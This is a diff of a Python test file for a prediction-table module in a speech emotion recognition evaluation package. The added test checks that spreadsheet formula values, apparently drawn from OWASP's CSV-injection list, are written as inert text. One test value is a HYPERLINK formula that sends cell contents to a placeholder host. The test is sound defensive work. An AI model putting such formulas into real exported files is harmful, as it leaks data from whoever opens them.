@@ -7,7 +7,13 @@ import numpy as np
 import pytest
 from sklearn.metrics import balanced_accuracy_score
 
-from evaluation_mser.predictions import Predictions, PredictionsError, read_predictions, write_predictions
+from evaluation_mser.predictions import (
+    Predictions,
+    PredictionsError,
+    listed_clips,
+    read_predictions,
+    write_predictions,
+)
 from processing_mser import UNPARSED
 
 
@@ -46,6 +52,32 @@ def test_what_is_written_is_read_back(scores, tmp_path):
             assert read.scores is None
         else:
             np.testing.assert_allclose(read.scores, scores)
+
+
+def test_formulas_are_written_as_text_and_read_back(tmp_path):
+    names = [
+        '=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1", "-1 + 2", "@SUM(A1)", "\t=1", "\r=1", "a\nb", " =1", "＝1",
+        "'=1", "''=1", "'quoted'", "'", "plain - text", "a=b", "''", "'\n",
+    ]  # fmt: skip
+    count = len(names)
+    written = predictions(
+        corpora=names, ids=names, files=names, speakers=names, genders=names, languages=names,
+        truths=["sad"] * count, answers=["sad"] * count, scores=None,
+    )  # fmt: skip
+    path = write_predictions(tmp_path / "predictions.csv", written, [{"corpus": "-x", "id": "=y", "error": "=z"}])
+    assert same(read_predictions(path), written)
+    assert read_predictions(path).align(written)[0].ids == names
+    assert listed_clips(path)[-1] == ("-x", "=y")
+    with open(path, encoding="utf-8", newline="") as file:
+        cells = [cell for line in csv.reader(file) for cell in line]
+    # As OWASP lists them: what a spreadsheet evaluates, also behind the white space that it drops.
+    assert [cell for cell in cells if cell.lstrip()[:1] in set("=+-@＝") or cell[:1] in set("\t\r")] == []
+
+
+def test_predictions_saved_as_utf_16_are_read(tmp_path):
+    path = write_predictions(tmp_path / "predictions.csv", predictions())
+    path.write_bytes(path.read_bytes().decode().encode("utf-16"))
+    assert same(read_predictions(path), predictions())
 
 
 def test_a_table_from_before_genders_is_read(tmp_path):
